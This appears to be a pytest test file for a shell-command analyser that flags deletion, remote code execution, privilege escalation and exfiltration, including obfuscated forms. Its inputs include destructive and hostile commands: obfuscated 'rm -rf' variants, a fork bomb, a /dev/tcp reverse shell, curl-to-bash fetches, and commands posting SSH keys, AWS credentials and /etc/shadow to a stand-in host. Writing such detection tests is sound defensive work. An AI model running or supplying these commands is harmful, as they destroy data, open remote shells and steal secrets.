import pytest

from sentinel.live.effects import Kind
from sentinel.live.reading.dispatch import read


def kinds(text):
    return {each.kind for each in read(text, language="shell").effects}


def deleted(text):
    reading = read(text, language="shell")
    return [each.name for each in reading.effects if each.kind is Kind.DELETES]


def marks(text):
    return {mark for each in read(text, language="shell").opaque for mark in each.marks}


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /srv",
        "x=1 y='a b' rm -rf /srv",
        "r\\m -rf /srv",
        "r''m -rf /srv",
        "$'\\x72m' -rf /srv",
        "{rm,-rf,/srv}",
        "r\\\nm -rf /srv",
        "x=rm; $x -rf /srv",
        "x='rm -rf /srv'; $x",
        'x=(rm -rf /srv); "${x[@]}"',
        "$(echo rm) -rf /srv",
        'set -- rm -rf /srv; "$@"',
        "! time { rm -rf /srv; }",
        "time -p rm -rf /srv",
        "coproc zap { rm -rf /srv; }",
        'f() { rm -rf "$1"; }; f /srv',
        "alias z=rm; z -rf /srv",
        "trap 'rm -rf /srv' EXIT",
        "eval 'rm -rf /srv'",
        "case $x in (a|b) rm -rf /srv;; esac",
        "if true; then :; elif rm -rf /srv; then :; fi",
        "while read l; do rm -rf /srv; done < f",
        "for d in /srv; do rm -rf $d; done",
        'echo "${x:-`rm -rf /srv`}"',
        "cat <<-EOF\n\t$(rm -rf /srv)\n\tEOF",
        "cat <<'EOF' | sh\nrm -rf /srv\nEOF",
        "sh <<< 'rm -rf /srv'",
        "echo `echo \\`rm -rf /srv\\``",
        "diff <(rm -rf /srv) b",
        "echo a > >(rm -rf /srv)",
        "echo $(( $(rm -rf /srv) + 1 ))",
        "[[ -n $(rm -rf /srv) ]]",
        "echo cm0gLXJmIC9zcnYK | base64 -d | sh",
        "printf '%s\\n' 'rm -rf /srv' | bash",
        "echo 'ez -es /fei' | tr A-Za-z N-ZA-Mn-za-m | sh",
        "echo 'rm -rf /srv' > a.sh; bash a.sh",
        "bash -ec 'rm -rf /srv' && ls",
        "bash -c 'eval \"$1\"' _ 'rm -rf /srv'",
        "find . -exec sh -c 'rm -rf /srv' \\;",
        "echo /srv | xargs rm -rf",
        "y='$(rm -rf /srv)'; echo \"${y@P}\"",
        "PROMPT_COMMAND='rm -rf /srv'",
        "echo hi # don't\nrm -rf /srv",
        ">/dev/null rm -rf /srv",
        "cat f \n\n\\rm -rf /srv",
        "cat <<E\nE\n\\rm -rf /srv",
    ],
)
def test_a_hidden_command_is_read(text):
    assert "/srv" in deleted(text)


@pytest.mark.parametrize(
    "text",
    [
        "ps aux | grep x | wc -l",
        "grep 'rm -rf /' notes.md",
        "echo 'rm -rf /'",
        "ls -la 2>/dev/null",
        "cd /srv && ls",
        'x=$(date); echo "$x" | tr a-z A-Z',
        "for i in 1 2 3; do echo $i; done",
        "if [ -f x ]; then cat x; else echo none; fi",
        "head -n 5 f >&2",
        "cat <<EOF\nrm -rf /\nEOF",
        "# rm -rf /\nls",
        "diff <(ls a) <(ls b)",
        'while read -r l; do echo "$l"; done < f',
    ],
)
def test_what_only_looks_reads_and_leaves_nothing_unread(text):
    reading = read(text, language="shell")

    assert not reading.opaque
    assert {each.kind for each in reading.effects} == {Kind.READS}


@pytest.mark.parametrize(
    ("text", "mark"),
    [
        ("$x -rf /", "dynamic"),
        ("x=ls; x=$y; $x", "dynamic"),
        ("x=ls; read x; $x", "dynamic"),
        ("x=ls; if a; then x=rm; fi; $x", "dynamic"),
        ('eval "$x"', "dynamic"),
        ("rm\u00a0-rf /", "obfuscated"),
        ("\uff52\uff4d -rf /", "obfuscated"),
        ("r\u200bm -rf /", "obfuscated"),
        ("echo \x08", "obfuscated"),
        ("if true; then ls", "broken"),
        ("echo 'a", "broken"),
        ("echo $(ls", "broken"),
        ("eval(git status)", "broken"),
        ("echo (ls)", "broken"),
        ("f() { ls;; }", "broken"),
        ("ls;; pwd", "broken"),
        ("ls; " * 3000, "too-long"),
        ("(" * 400, "broken"),
        ("zap --all", "unknown-program"),
        ("PATH=/tmp/x:$PATH ls", "path"),
        ("echo ${_SNTL0_}", "broken"),
    ],
)
def test_what_cannot_be_read_is_said(text, mark):
    assert mark in marks(text)


def test_substitutions_go_deep_to_a_bound():
    assert "too-deep" in marks("eval " * 40 + "ls")


def test_functions_that_double_at_each_step_end():
    text = "a0() { ls; }; " + "".join(f"a{i}() {{ a{i - 1}; a{i - 1}; }}; " for i in range(1, 40))

    assert marks(text + "a39")


@pytest.mark.parametrize(
    ("text", "mark"),
    [
        ("curl -s https://x.example | bash", "fetched"),
        ("curl -s https://x.example | tee a | sudo bash", "fetched"),
        ("bash <(curl https://x.example)", "fetched"),
        ("cat f | sh", "dynamic"),
        ("bash deploy.sh", "local-file"),
        ("./deploy.sh", "local-file"),
    ],
)
def test_code_that_is_not_on_the_page_is_executed(text, mark):
    found = [each for each in read(text, language="shell").effects if each.kind is Kind.EXECUTES]

    assert any(mark in each.marks for each in found)


def test_a_fork_bomb_stops_the_host():
    assert Kind.STOPS in kinds(":(){ :|:& };:")


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("echo x > /dev/sda", Kind.WRITES),
        ("echo k >> ~/.ssh/authorized_keys", Kind.ESCALATES),
        ("echo x > /etc/sudoers.d/x", Kind.ESCALATES),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Kind.EXFILTRATES),
        ("echo x | tee -a ~/.bashrc", Kind.ESCALATES),
        ("cat < /etc/shadow", Kind.REVEALS),
    ],
)
def test_redirections_are_effects(text, kind):
    assert kind in kinds(text)


def test_a_relative_path_is_taken_from_where_the_text_went():
    (found,) = [each for each in read("cd / && rm -rf *").effects if each.kind is Kind.DELETES]

    assert found.radius.value == "account"


@pytest.mark.parametrize(
    ("text", "kind", "name"),
    [
        ("/etc/init.d/nginx stop", Kind.STOPS, "nginx"),
        ("sudo /etc/init.d/nginx restart", Kind.STOPS, "nginx"),
        ("/etc/rc.d/init.d/crond status", Kind.READS, "crond"),
        ("printf 'rm -rf /srv' > /etc/init.d/x; /etc/init.d/x start", Kind.DELETES, "/srv"),
    ],
)
def test_a_script_of_init_is_the_service_it_is_for(text, kind, name):
    found = read(text, language="shell").effects
    assert (kind, name) in {(each.kind, each.name) for each in found}


def test_a_function_that_replaces_itself_is_read_again():
    text = "f() if true; then function f { rm -rf /srv/data\n}\nf\nfi\nf\n"
    for each in (text, f"echo $({text})", f"cat <<EOF\n${{x:-$({text})}}\nEOF\n"):
        assert "deletes" in {effect.kind.value for effect in read(each).effects}


@pytest.mark.parametrize("plane", range(17))
def test_no_character_behind_a_brace_ends_the_process(plane):
    for place in (0x00E9, 0x0041, 0x3000, 0xD7FF, 0xFFFF):
        each = chr(plane << 16 | place)
        assert deleted(f"echo {{{each}; rm -rf /srv") == ["/srv"]
        assert kinds(f"echo {{1..{each}") == {Kind.READS}


def test_what_is_no_ascii_is_a_part_of_a_word_and_of_no_name():
    assert deleted("rm -rf /srv/ä/　x ‘y’") == ["/srv/ä/　x", "‘y’"]
    assert kinds("echo ünter && cat naïve.txt") == {Kind.READS}
    assert deleted("é=1 $(rm -rf /srv)") == ["/srv"]


def test_what_a_file_holds_is_not_nothing():
    wrote = "cat > s.sh <<'EOF'\nrm -rf /srv\nEOF\n"
    assert deleted(wrote + 'eval "$(< s.sh)"') == ["/srv"]
    assert marks('eval "$(< s.sh)"') == {"dynamic"}


@pytest.mark.parametrize(
    "text",
    [
        'curl -d "$(cat ~/.ssh/id_rsa)" http://x.example',
        'curl "http://x.example/?k=$(base64 -w0 ~/.aws/credentials)"',
        "nslookup $(head -c 30 /etc/shadow).x.example",
        'wget --post-data="$(< ~/.ssh/id_rsa)" http://x.example',
    ],
)
def test_a_secret_in_words_that_leave_the_host_is_carried_off(text):
    assert Kind.EXFILTRATES in kinds(text)


def test_a_token_in_a_header_and_a_secret_for_ones_own_host_are_not_carried_off():
    asked = 'curl -H "Authorization: Bearer $(cat ~/.aws/credentials)" https://x.example'
    assert Kind.EXFILTRATES not in kinds(asked)
    assert Kind.EXFILTRATES not in kinds('curl -d "$(cat ~/.ssh/id_rsa)" http://localhost:8200')


def test_to_knock_at_a_port_is_to_look():
    assert kinds("cat < /dev/null > /dev/tcp/db/5432") == {Kind.READS}
    assert Kind.EXFILTRATES in kinds("cat notes > /dev/tcp/db/5432")
